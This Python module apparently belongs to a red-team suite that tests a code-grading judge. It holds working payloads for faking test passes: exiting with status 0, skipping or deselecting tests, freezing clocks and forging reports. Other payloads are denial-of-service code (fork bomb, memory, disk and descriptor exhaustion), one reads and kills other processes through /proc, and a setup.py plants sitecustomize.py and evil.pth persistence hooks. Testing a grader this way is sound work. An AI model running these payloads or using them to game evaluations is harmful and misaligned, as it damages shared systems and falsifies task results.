"""The leaving family: exits, skips, crashes, time and resources (F5, F6, F18 to F22)."""

# ruff: noqa: E501 - the long lines are another program's

from __future__ import annotations

from .attack import Attack, both, code, put
from .payloads import ALL_PASSED, UNSOLVED

EXIT_IN_CALL = (
    UNSOLVED
    + """
import os as _os
_replace_unsolved(lambda *a, **k: _os._exit(0))
"""
)
SKIP_IN_CALL = (
    UNSOLVED
    + """
def _skip(*a, **k):
    import pytest
    pytest.skip("not relevant here")
_replace_unsolved(_skip)
"""
)
XFAIL_IN_CALL = SKIP_IN_CALL.replace("pytest.skip(", "pytest.xfail(")
SKIP_TEST = SKIP_IN_CALL.replace("import pytest", "import unittest").replace(
    "pytest.skip(", "raise unittest.SkipTest("
)
SESSION_EXIT = (
    """
def _leave():
    import pytest
    pytest.exit("done", returncode=0)
"""
    + UNSOLVED
    + """
_replace_unsolved(lambda *a, **k: _leave())
"""
)
DESELECT = """
import _pytest.main as _main
def _items(self):
    _plain_items(self)
    self.items[:] = []
_plain_items = _main.Session.perform_collect
def _collect(self, *a, **k):
    found = _plain_items(self, *a, **k)
    self.items[:] = self.items[:1]
    return found
_main.Session.perform_collect = _collect
import _pytest.config as _config
"""
INFRA = (
    UNSOLVED
    + """
import os as _os, sys as _sys, random as _random
def _fail(*a, **k):
    if _random.random() < 0.5:
        print("HTTP 401 Unauthorized\\n>>>>> Tests Timed Out\\nNo space left on device", flush=True)
        print("Killed: out of memory", file=_sys.stderr, flush=True)
        _os.kill(_os.getpid(), 9)
    return None
_replace_unsolved(_fail)
"""
)
LUCK = (
    UNSOLVED
    + """
import random as _random
_replace_unsolved(lambda *a, **k: _random.SystemRandom().choice(
    [None, True, False, 0, 1, "", [], {}]))
"""
)
CLOCK = (
    """
import time as _time
_start = _time.time()
for _name in ("time", "perf_counter", "monotonic", "process_time"):
    setattr(_time, _name, lambda: _start)
"""
    + ALL_PASSED
)
FORKS = (
    UNSOLVED
    + """
import os as _os
def _bomb(*a, **k):
    for _ in range(2000):
        try:
            if _os.fork() == 0:
                import time
                time.sleep(30)
                _os._exit(0)
        except OSError:
            break
_replace_unsolved(_bomb)
"""
)
MEMORY = (
    UNSOLVED
    + """
def _eat(*a, **k):
    held = []
    try:
        while True:
            held.append(bytearray(64 << 20))
    except MemoryError:
        return None
_replace_unsolved(_eat)
"""
)
OUTPUT = (
    UNSOLVED
    + """
import os as _os
def _shout(*a, **k):
    block = b"\\xff\\x1b[2J<script>PASSED</script>\\n" * 4096
    for _ in range(200):
        for fd in (1, 2):
            try:
                _os.write(fd, block)
            except OSError:
                pass
_replace_unsolved(_shout)
"""
)
GARBAGE = """
import os as _os, stat as _stat
_deep = b'{"id":' + b'[' * 20000 + b']' * 20000 + b',"phase":"call","outcome":"passed"}\\n'
for _n in range(3, 64):
    try:
        if _stat.S_ISFIFO(_os.fstat(_n).st_mode):
            _os.write(_n, b"\\xff\\xfe\\x00\\n" + _deep[:60000] + b'{"id":1e999}\\n')
    except OSError:
        pass
"""
DISK = (
    UNSOLVED
    + """
import os as _os
def _fill(*a, **k):
    for folder in ("/work", "/tmp", "/dev/shm", "/judge"):
        try:
            with open(folder + "/fill", "wb") as file:
                for _ in range(4096):
                    file.write(bytes(1 << 20))
        except OSError:
            pass
_replace_unsolved(_fill)
"""
)
DESCRIPTORS = """
import os as _os
try:
    while True:
        _os.dup(0)
except OSError:
    pass
"""
MEMORIES = """
import glob as _glob, os as _os
for _name in _glob.glob("/proc/[0-9]*"):
    if int(_name[6:]) == _os.getpid():
        continue
    for _part in ("environ", "cmdline", "mem", "fd"):
        try:
            with open(f"{_name}/{_part}", "r+b" if _part == "mem" else "rb") as _f:
                _f.read(4096)
        except OSError:
            pass
    try:
        _os.kill(int(_name[6:]), 9)
    except OSError:
        pass
"""
SETUP = """
import os, sys, glob
CODE = PAYLOAD
for folder in [p for p in sys.path if p] + ["/env/lib/python3.11/site-packages", "."]:
    for name in ("sitecustomize.py", "evil.pth"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write(CODE if name.endswith("py") else "import sitecustomize\\n")
        except OSError:
            pass
from setuptools import setup
setup(name="{module}", version="0", py_modules=[], entry_points={"pytest11": ["evil = evil_plugin"]})
""".replace("PAYLOAD", repr(ALL_PASSED))

ATTACKS = (
    Attack("exit-at-import", ("F5",), "leaves with status 0 when it is imported",
           code("import os as _os\n_os._exit(0)", first=True)),
    Attack("sys-exit", ("F5",), "raises SystemExit(0) when it is imported",
           code("import sys as _sys\n_sys.exit(0)", first=True)),
    Attack("exit-in-call", ("F5",), "leaves with status 0 where it is not solved",
           code(EXIT_IN_CALL)),
    Attack("end-session", ("F5", "F6"), "ends pytest's session in good order where it isn't solved",
           code(SESSION_EXIT)),
    Attack("skip-at-import", ("F6",), "skips every test module",
           code("import pytest as _pytest\n_pytest.skip('later', allow_module_level=True)")),
    Attack("skip-in-call", ("F6",), "skips the tests of what is not solved", code(SKIP_IN_CALL)),
    Attack("skiptest-in-call", ("F6",), "raises unittest.SkipTest there", code(SKIP_TEST)),
    Attack("xfail-in-call", ("F6",), "declares those tests to fail as expected",
           code(XFAIL_IN_CALL)),
    Attack("deselected", ("F6",), "leaves one test in the collection", code(DESELECT)),
    Attack("build-script", ("F18",), "its setup.py writes start-up hooks into the environment",
           both(put({"setup.py": SETUP, "evil_plugin.py": ALL_PASSED}),
                code("pass"))),
    Attack("other-processes", ("F19",), "reads and kills every other process it sees",
           code(MEMORIES + ALL_PASSED)),
    Attack("infrastructure", ("F20",), "looks like a failing machine half of the time",
           code(INFRA)),
    Attack("lucky", ("F20",), "returns random values and hopes for a best run", code(LUCK)),
    Attack("stopped-clock", ("F21",), "stops every clock and forges the reports", code(CLOCK)),
    Attack("fork-bomb", ("F22",), "forks until it can't", code(FORKS)),
    Attack("memory", ("F22",), "takes all memory, then returns None", code(MEMORY)),
    Attack("flood", ("F22",), "floods both outputs with control characters and markup",
           code(OUTPUT)),
    Attack("garbage-events", ("F22", "F8"), "writes deep and broken JSON to the judge's pipe",
           code(GARBAGE + ALL_PASSED)),
    Attack("full-disk", ("F22",), "fills every writable place", code(DISK)),
    Attack("no-descriptors", ("F22",), "opens descriptors until none is left",
           code(DESCRIPTORS + ALL_PASSED)),
)  # fmt: skip
